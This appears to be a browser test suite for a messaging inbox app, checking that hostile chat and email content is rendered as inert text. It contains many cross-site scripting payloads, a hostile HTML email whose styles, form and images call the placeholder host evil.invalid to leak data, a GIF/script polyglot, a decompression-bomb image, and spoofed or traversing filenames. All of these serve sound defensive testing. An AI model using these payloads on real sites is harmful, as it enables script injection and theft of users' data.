"""What strangers send, in front of a real browser: nothing of it runs, reaches out, or breaks the page."""

from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect
from sqlalchemy.ext.asyncio import AsyncEngine

from router.message import Attachment
from tests.events import a_message, a_person, accepted
from tests.inbox.chromium import PHONE, WIDE, browsing, needs_chromium
from tests.inbox.stage import Stage, on_stage
from tests.inbox.test_attacks import a_png

pytestmark = needs_chromium

RUNS = "top.pwned=(top.pwned||0)+1;window.pwned=1"
MARKUP = (
    f"<script>{RUNS}</script><img src=x onerror='{RUNS}'><svg/onload='{RUNS}'>"
    f"\"><iframe srcdoc=\"<script>{RUNS}</script>\"></iframe>' autofocus onfocus='{RUNS}' x='"
    "{{7*7}}${7*7}</textarea></title></style><base href=//evil.invalid/>"
)
TURNED = "\u202egnp.exe\u202c \u2067مرحبا\u2069"
ZALGO = "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 60 + "algo"
LONG = "W" * 100_000
LINKS = f"javascript:{RUNS} data:text/html,<script>{RUNS}</script> https://evil.invalid/\"onmouseover='{RUNS}'"
MAIL = f"""
<html><head><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/r">
<link rel=stylesheet href=https://evil.invalid/l.css><style>@import 'https://evil.invalid/i.css';
body{{background:url(https://evil.invalid/b)}} input[value^=a]{{background:url(https://evil.invalid/a)}}</style></head>
<body onload="{RUNS}"><p id=seen style="position:fixed;inset:0;z-index:9999;background:url(https://evil.invalid/p)">Письмо</p>
<script>{RUNS}</script><img src=https://evil.invalid/x.png onerror="{RUNS}"><svg><script>{RUNS}</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>
<form action=https://evil.invalid/f><input name=password autofocus onfocus="{RUNS}"><button>go</button></form>
<a id=js href="javascript:{RUNS}">js</a><a href="data:text/html,<script>{RUNS}</script>">data</a>
<iframe src="javascript:{RUNS}"></iframe><object data="https://evil.invalid/o"></object><embed src=https://evil.invalid/e>
<video poster=https://evil.invalid/v><source src=https://evil.invalid/v onerror="{RUNS}"></video>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>">
<p style="background-image:u\\72l('https://evil.invalid/u')">x</p><template><script>{RUNS}</script></template></body></html>
"""
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'><script>{RUNS}</script></svg>".encode()
HTML = f"<script>{RUNS}</script>".encode()
POLYGLOT = b"GIF89a\x01\x00\x01\x00\x00\x00\x00=1;" + RUNS.encode() + b"//" + HTML
BOMB = a_png(20_000, 20_000)


@pytest.fixture
async def stage(database: AsyncEngine, tmp_path: Path) -> AsyncGenerator[Stage]:
    async with on_stage(database, tmp_path) as stage:
        await stage.hire("Anna", role="admin")
        yield stage


@pytest.fixture
async def open_page(stage: Stage) -> AsyncGenerator[Any]:
    async with browsing(stage) as opened:
        yield opened


async def attacked(stage: Stage) -> dict[str, Any]:
    """A person whose everything is an attack, in chat and by mail."""
    chat = await stage.shop.connect("bot")
    mail = await stage.shop.connect("mail", kind="email")
    person = a_person(1, name=MARKUP[:180])
    names = [
        (SVG, "photo.svg", "image/svg+xml", "image"),
        (HTML, "page.html", "text/html", "document"),
        (SVG, "lies.png", "image/png", "image"),
        (POLYGLOT, "both.gif", "image/gif", "image"),
        (BOMB, "bomb.png", "image/png", "image"),
        (b"%PDF-1.7 " + HTML, TURNED + ".pdf", "application/pdf", "document"),
        (b"PK\x03\x04" + b"\0" * 64, "../../x\r\n" + "n" * 300 + ".zip", "application/zip", "document"),
        (HTML, MARKUP[:150], "audio/mpeg", "audio"),
        (HTML, "film.mp4", "video/mp4", "video"),
    ]  # fmt: skip
    files = [
        Attachment(
            kind=kind,  # type: ignore[arg-type]  # of the list above
            sha256=await stage.media.put(content),
            name=name,
            mime=mime,
            size=len(content),
        )
        for content, name, mime, kind in names
    ]
    for number, text in enumerate((MARKUP, LINKS, TURNED, ZALGO, LONG, "a\0b\x1b[31m")):
        await stage.receive(accepted(chat, a_message(by=person, text=text, key=f"k{number}")))
    await stage.receive(
        accepted(chat, a_message(by=person, text="", attachments=tuple(files), key="files"))
    )
    await stage.receive(
        accepted(
            mail,
            a_message(
                by=a_person(9, channel="email", name=TURNED + ZALGO[:100]),
                text=MARKUP,
                html=MAIL,
                subject=MARKUP[:200],
            ),
            channel="email",
        )
    )
    rows = await stage.shop.sql(
        "select v.id, v.contact_id, a.kind from conversation v join account a on a.id = v.account_id"
    )
    found = {row.kind: row for row in rows}
    me = stage.shop.managers[0]
    for row in found.values():
        await stage.desk.note(row.id, by=me, text=MARKUP + TURNED)
        await stage.desk.set_labels(row.id, [MARKUP[:40], TURNED[:30], "L" * 40], by=me)
        first = await stage.shop.one(
            "select id from message where conversation_id = :id order by seq limit 1", id=row.id
        )
        await stage.desk.reply(row.id, by=me, text=LONG[:3000], reply_to=first.id)
    leads = await stage.shop.sql("select id from lead")
    for lead in leads:
        await stage.desk.change_lead(lead.id, {"title": MARKUP[:190]}, by=me)
    await stage.publish()
    return {
        "chat": found["telegram"].id,
        "mail": found["email"].id,
        "contacts": [row.contact_id for row in found.values()],
        "leads": [row.id for row in leads],
    }


async def nothing_ran(page: Page) -> None:
    for frame in page.frames:
        ran = await frame.evaluate("window.pwned ?? null") if not frame.is_detached() else None
        assert ran is None, frame.url


async def nothing_broke(page: Page) -> None:
    wide = await page.evaluate(
        "document.scrollingElement.scrollWidth - document.scrollingElement.clientWidth"
    )
    beyond = await page.evaluate(
        "[...document.querySelectorAll('main *')].filter((e) => e.getBoundingClientRect().right > innerWidth + 0.5)"
        ".map((e) => `${e.tagName}.${e.getAttribute('class')}`).slice(0, 8)"
    )
    assert wide <= 0, (page.url, beyond)
    pane = await page.evaluate(
        "(() => { const s = document.getElementById('scroll'); return s ? s.scrollWidth - s.clientWidth : 0; })()"
    )
    beyond = await page.evaluate(
        "(() => { const s = document.getElementById('scroll'); if (!s) return []; const edge = s.getBoundingClientRect().left"
        " + s.clientWidth; return [...s.querySelectorAll('*')].filter((e) => e.getBoundingClientRect().right > edge + 0.5)"
        ".map((e) => `${e.tagName}.${e.getAttribute('class')}`).slice(0, 8); })()"
    )
    assert pane <= 0, (page.url, beyond)


async def false_pictures_are_files(page: Page) -> None:
    for name in ("lies.png", "bomb.png"):
        shot = page.locator(f"[data-shot][data-name='{name}']")
        # It is asked for when one comes near.
        await shot.evaluate("(shot) => shot.scrollIntoView()")
        await expect(shot).to_be_hidden()
        await expect(page.locator(".file:visible", has_text=name)).to_be_visible()


@pytest.mark.parametrize("viewport", [PHONE, WIDE])
async def test_nothing_a_stranger_sends_runs_reaches_out_or_breaks_the_page(
    stage, open_page, viewport
):
    there = await attacked(stage)
    page = await open_page(viewport=viewport)
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append("https://a.dialog.invalid/"))
    paths = ["/?tab=all", "/contacts", "/leads", "/leads?view=list"]
    paths += [f"/contacts/{each}" for each in there["contacts"]]
    paths += [f"/leads/{each}" for each in there["leads"]]
    for path in paths:
        answer = await page.goto(path)
        assert answer.status == 200, path
        await nothing_ran(page)
        await nothing_broke(page)

    await page.goto(f"/conversations/{there['chat']}")
    await expect(page.locator("#messages .msg").first).to_be_attached()
    unfold = page.locator("#messages [data-unfold]")
    for left in range(await unfold.count(), 0, -1):
        await expect(unfold).to_have_count(left)
        await unfold.first.click()
    await page.evaluate("document.getElementById('scroll').scrollTop = 0")
    # Pictures that are none, and the one that would fill the memory, are files.
    await false_pictures_are_files(page)
    for media in await page.locator("#messages audio, #messages video").all():
        await media.evaluate("(media) => media.play().catch(() => {})")
    shown = await page.locator("#messages").inner_text()
    assert "\u202e" not in await page.locator("#messages .file__n").last.inner_text()
    assert "<script>" in shown, "what they wrote is shown as it is, as words"
    assert "49" not in await page.locator("#talk-head").inner_text()
    await nothing_ran(page)
    await nothing_broke(page)

    await page.goto(f"/conversations/{there['mail']}")
    await page.locator("details.mail summary").click()
    frame = page.frame_locator(".mail__page")
    await expect(frame.locator("body")).to_contain_text("Письмо")
    await expect(
        frame.locator("form, script, style:nth-of-type(2), iframe, object, base[href]")
    ).to_have_count(0)
    await frame.locator("a").first.click(force=True, no_wait_after=True)
    box = await page.locator(".mail__page").bounding_box()
    assert box["width"] <= viewport["width"]
    await nothing_ran(page)
    await nothing_broke(page)

    for file in await stage.shop.sql("select id, name from attachment"):
        answer = await page.context.request.get(f"/files/{file.id}")
        assert answer.headers["x-content-type-options"] == "nosniff", file.name
        assert "sandbox" in answer.headers["content-security-policy"], file.name
        inline = answer.headers["content-disposition"].startswith("inline")
        kind = answer.headers["content-type"].partition("/")[0]
        assert inline == (kind in {"image", "audio", "video"}), file.name
    # The polyglot is a picture to the browser, and never a script, whatever asks for it.
    polyglot = (await stage.shop.one("select id from attachment where name = 'both.gif'")).id
    loaded = await page.evaluate(
        """(id) => new Promise((done) => { const script = document.createElement('script'); script.src = `/files/${id}`;
        script.onload = () => done('ran'); script.onerror = () => done('refused'); document.head.append(script); })""",
        str(polyglot),
    )
    assert loaded == "refused"
    await nothing_ran(page)
    foreign = {
        urlsplit(url).hostname for url in asked if urlsplit(url).scheme not in {"data", "blob"}
    }
    assert foreign == {"127.0.0.1"}


async def test_an_attack_that_arrives_while_one_looks_on_is_only_words(stage, open_page):
    account = await stage.shop.connect("bot")
    await stage.receive(accepted(account, a_message(text="первое")))
    talk = (await stage.shop.one("select id from conversation")).id
    page = await open_page(f"/conversations/{talk}")
    await stage.receive(accepted(account, a_message(text=MARKUP, key="second")))
    await expect(page.locator("#messages .msg")).to_have_count(2)
    await expect(page.locator("#messages")).to_contain_text("<script>")
    await expect(page.locator("#rows .row")).to_contain_text("<script>")
    await (
        page.locator("#messages .msg", has_text="<script>")
        .locator("[data-answer]")
        .click(force=True)
    )
    await expect(page.locator("#quote")).to_contain_text("<script>")
    await page.keyboard.type(MARKUP[:80])
    await page.keyboard.press("Control+Enter")
    await expect(page.locator("#messages .msg--out[data-item]")).to_have_count(1)
    await nothing_ran(page)
    await nothing_broke(page)
